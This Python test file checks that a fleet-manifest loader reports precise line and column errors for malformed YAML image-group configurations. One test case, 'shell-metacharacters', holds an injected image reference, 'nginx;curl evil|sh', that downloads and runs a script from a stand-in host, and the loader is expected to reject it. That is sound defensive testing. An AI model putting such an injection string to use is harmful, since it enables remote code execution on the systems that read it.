"""Every class of manifest error: exact `path:line:col: message`, all at once, no traceback."""

from __future__ import annotations

import pytest

from reconciler.manifests import load_fleet

from .conftest import yaml

D64 = "ab" * 32

GROUP = yaml("""
    apiVersion: edgefleet.io/v1alpha1
    kind: NodeGroupImages
    metadata: {name: shop}
    spec:
      nodes: {nodeGroup: shop-berlin}
      images: [nginx]
""")
IMAGE_SET = yaml("""
    apiVersion: edgefleet.io/v1alpha1
    kind: ImageSet
    metadata: {name: base}
    spec:
      images: [nginx]
""")

CASES = [
    pytest.param(
        {
            "g.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: NodeGroupImages
            metadata: {name: shop}
            spec:
              nodes: {nodeGroup: shop-berlin}
              imageSet: [base]
        """)
        },
        ['g.yaml:6:3: unknown key "imageSet" (did you mean "imageSets"?)'],
        id="unknown-key-typo",
    ),
    pytest.param(
        {
            "g.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: NodeGroupImages
            metadata: {name: shop}
            spec:
              nodes: {nodeGroup: shop-berlin}
              policy: {concurrency: 2, imageSecret: shop/cred}
        """)
        },
        [
            'g.yaml:6:28: unknown key "imageSecret" '
            "(set the group's imageSecret beside policy, not inside it)"
        ],
        id="unknown-key-misplaced",
    ),
    pytest.param(
        {
            "g.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: NodeGroupImages
            metadata: {name: shop}
            spec:
              nodes: {nodeGroup: shop-berlin}
              images: [nginx]
              images: [redis]
        """)
        },
        ['g.yaml:7:3: duplicate key "images" (first at line 6)'],
        id="duplicate-key",
    ),
    pytest.param(
        {"a.yaml": GROUP, "b/c.yaml": GROUP},
        ['b/c.yaml:3:18: duplicate NodeGroupImages name "shop" (first defined at a.yaml:1)'],
        id="duplicate-group-name",
    ),
    pytest.param(
        {"sets.yaml": IMAGE_SET + b"---\n" + IMAGE_SET, "g.yaml": GROUP},
        ['sets.yaml:9:18: duplicate ImageSet name "base" (first defined at sets.yaml:1)'],
        id="duplicate-imageset-name",
    ),
    pytest.param(
        {
            "a.yaml": b"apiVersion: edgefleet.io/v1alpha1\nkind: FleetConfig\n",
            "b.yaml": b"apiVersion: edgefleet.io/v1alpha1\nkind: FleetConfig\nspec: {allowEmpty: true}\n",
            "g.yaml": GROUP,
        },
        ["b.yaml:2:7: more than one FleetConfig (the first is at a.yaml:1)"],
        id="second-fleetconfig",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"images: [nginx]", b"imageSets: [base, bsae]"), "s.yaml": IMAGE_SET},
        ['g.yaml:6:21: ImageSet "bsae" not found (did you mean "base"?)'],
        id="missing-imageset",
    ),
    pytest.param(
        {
            "s.yaml": IMAGE_SET.replace(
                b"[nginx]", b"\n    - nginx\n    - 'Nginx:1.25'\n    - 'nginx:'\n    - nginx:"
            )
        },
        [
            's.yaml:7:7: invalid image reference "Nginx:1.25": repository name must be lower-case',
            's.yaml:8:7: invalid image reference "nginx:": empty tag',
            's.yaml:9:7: "nginx:" was read as a YAML mapping; quote the image reference',
        ],
        id="invalid-image-reference",
    ),
    pytest.param(
        {"s.yaml": IMAGE_SET.replace(b"[nginx]", b'["nginx;curl evil|sh"]')},
        [
            's.yaml:5:12: invalid image reference "nginx;curl evil|sh": '
            "contains the character ';', which a shell could interpret"
        ],
        id="shell-metacharacters",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"images: [nginx]", b"images: [nginx]\n  imageSecret: Shop/cred")},
        [
            'g.yaml:7:16: invalid imageSecret "Shop/cred": namespace "Shop" must be a DNS-1123 label: '
            "lower-case letters, digits and '-', starting and ending alphanumeric"
        ],
        id="invalid-secret-namespace",
    ),
    pytest.param(
        {"s.yaml": IMAGE_SET.replace(b"[nginx]", b"[{image: nginx, imageSecret: just-a-name}]")},
        ["s.yaml:5:40: invalid imageSecret \"just-a-name\": must be namespace/name (exactly one '/')"],
        id="invalid-secret-shape",
    ),
    pytest.param(
        {"g.yaml": b"apiVersion: edgefleet.io/v1alpha1\nkind: ImageSet\nmetadata: {name: base\nspec: {}\n"},
        ["g.yaml:4:5: YAML syntax error: expected ',' or '}', but got ':'"],
        id="yaml-syntax",
    ),
    pytest.param(
        {"g.yaml": b"\xff\xfe not utf-8"},
        ["g.yaml:1:1: file is not valid UTF-8 (byte 0)"],
        id="not-utf8",
    ),
    pytest.param(
        {
            "g.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: NodeGroupImages
            metadata: {name: shop}
            spec:
              images: [nginx]
        """)
        },
        ['g.yaml:5:3: missing required key "nodes" in spec'],
        id="missing-key",
    ),
    pytest.param(
        {
            "f.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: FleetConfig
            spec:
              defaults:
                concurrency: 0
                failureTolerate: 1.5
                timeoutSeconds: 0
                retryTimes: -1
                maxNodesPerJob: 101
                checkItems: [disk, gpu]
        """),
            "g.yaml": GROUP,
        },
        [
            "f.yaml:5:18: spec.defaults.concurrency must be >= 1, not 0",
            "f.yaml:6:22: failureTolerate must be between 0 and 1, not 1.5",
            "f.yaml:7:21: spec.defaults.timeoutSeconds must be > 0, not 0",
            "f.yaml:8:17: spec.defaults.retryTimes must be >= 0, not -1",
            "f.yaml:9:21: spec.defaults.maxNodesPerJob must be <= 100, not 101",
            "f.yaml:10:24: spec.defaults.checkItems[1] must be 'cpu', 'mem' or 'disk', not 'gpu'",
        ],
        id="policy-ranges",
    ),
    pytest.param(
        {
            "f.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: FleetConfig
            spec:
              defaults: {concurrency: "5", failureTolerate: "ten percent"}
              allowEmpty: yes
        """),
            "g.yaml": GROUP,
        },
        [
            "f.yaml:4:27: spec.defaults.concurrency must be an integer, not a string",
            'f.yaml:4:49: failureTolerate "ten percent" is not a decimal number between 0 and 1',
            "f.yaml:5:15: spec.allowEmpty must be true or false, not a string",
        ],
        id="wrong-types",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"{nodeGroup: shop-berlin}", b"{nodeGroup: shop-berlin, names: [a]}")},
        ["g.yaml:5:10: nodes needs exactly one of nodeGroup, selector, names (found nodeGroup, names)"],
        id="two-selections",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"{nodeGroup: shop-berlin}", b"{}")},
        ["g.yaml:5:10: nodes needs exactly one of nodeGroup, selector, names"],
        id="no-selection",
    ),
    pytest.param(
        {
            "g.yaml": yaml("""
            apiVersion: edgefleet.io/v1alpha1
            kind: NodeGroupImages
            metadata: {name: shop}
            spec:
              nodes:
                selector:
                  matchLabels: {"bad key!": x}
                  matchExpressions:
                    - {key: site, operator: In}
                    - {key: site, operator: Exists, values: [a]}
                    - {key: site, operator: Equals, values: [a]}
              images: [nginx]
        """)
        },
        [
            'g.yaml:7:21: invalid label key "bad key!": label key name must be alphanumeric, '
            "'-', '_' or '.', starting and ending alphanumeric",
            "g.yaml:9:11: operator In needs a non-empty values list",
            "g.yaml:10:11: operator Exists takes no values",
            "g.yaml:11:33: spec.nodes.selector.matchExpressions[2].operator must be "
            "'In', 'NotIn', 'Exists' or 'DoesNotExist', not 'Equals'",
        ],
        id="selector-rules",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"metadata: {name: shop}", b"metadata: {name: Shop_Berlin}")},
        [
            'g.yaml:3:18: invalid name "Shop_Berlin": must be a DNS-1123 label: '
            "lower-case letters, digits and '-', starting and ending alphanumeric"
        ],
        id="invalid-name",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"kind: NodeGroupImages", b"kind: NodeGroupImage")},
        ['g.yaml:2:7: unknown kind "NodeGroupImage" (did you mean "NodeGroupImages"?)'],
        id="unknown-kind",
    ),
    pytest.param(
        {"g.yaml": GROUP.replace(b"edgefleet.io/v1alpha1", b"edgefleet.io/v1")},
        ['g.yaml:1:13: unsupported apiVersion "edgefleet.io/v1" (use edgefleet.io/v1alpha1)'],
        id="unsupported-version",
    ),
    pytest.param(
        {
            "s.yaml": IMAGE_SET.replace(b"[nginx]", b"[{image: nginx, imageSecret: a/one}]"),
            "g.yaml": GROUP.replace(
                b"images: [nginx]",
                b"imageSets: [base]\n  images: [{image: 'nginx:latest', imageSecret: b/two}]",
            ),
        },
        [
            'g.yaml:6:15: image "docker.io/library/nginx:latest" has two imageSecrets in this group: "a/one" '
            '(ImageSet "base" at s.yaml:5) and "b/two" (line 7)'
        ],
        id="conflicting-image-secrets",
    ),
]


@pytest.mark.parametrize(("files", "expected"), CASES)
def test_reports_error_at_offending_node(files: dict[str, bytes], expected: list[str]) -> None:
    result = load_fleet(files)
    assert [str(e) for e in result.errors] == expected
    assert result.fleet is None
    assert all(e.severity == "error" for e in result.errors)


def test_reports_every_error_of_every_file_at_once() -> None:
    files = {
        "a.yaml": GROUP.replace(b"images: [nginx]", b"images: [nginx]\n  suspend: maybe"),
        "b.yaml": b"key: [unclosed\n",
        "c.yaml": IMAGE_SET.replace(b"[nginx]", b"['UPPER']"),
    }
    result = load_fleet(files)
    assert [str(e) for e in result.errors] == [
        "a.yaml:7:12: spec.suspend must be true or false, not a string",
        "b.yaml:2:1: YAML syntax error: expected ',' or ']', but got '<stream end>'",
        'c.yaml:5:12: invalid image reference "UPPER": repository name must be lower-case',
    ]


def test_a_syntax_error_keeps_the_documents_before_it() -> None:
    files = {
        "a.yaml": IMAGE_SET + b"---\nkind: [\n",
        "g.yaml": GROUP.replace(b"[nginx]", b"[x]\n  imageSets: [base]"),
    }
    result = load_fleet(files)
    # The ImageSet before the broken document was read: the group's reference to it resolves.
    assert [str(e) for e in result.errors] == [
        "a.yaml:8:1: YAML syntax error: expected the node content, but found '<stream end>'"
    ]


def test_an_unknown_key_with_a_newline_in_it_is_reported_on_one_line() -> None:
    # Found by the chaos fuzzer: a quoted YAML key may hold a newline; the error must not.
    text = ('apiVersion: edgefleet.io/v1alpha1\nkind: NodeGroupImages\nmetadata: {name: shop}\n'
            'spec:\n  nodes: {nodeGroup: shop-berlin}\n  images: [nginx]\n  "\\nxy": 1\n')
    result = load_fleet({"g.yaml": text.encode()})
    assert [str(e) for e in result.errors] == ['g.yaml:7:3: unknown key "\\nxy"']
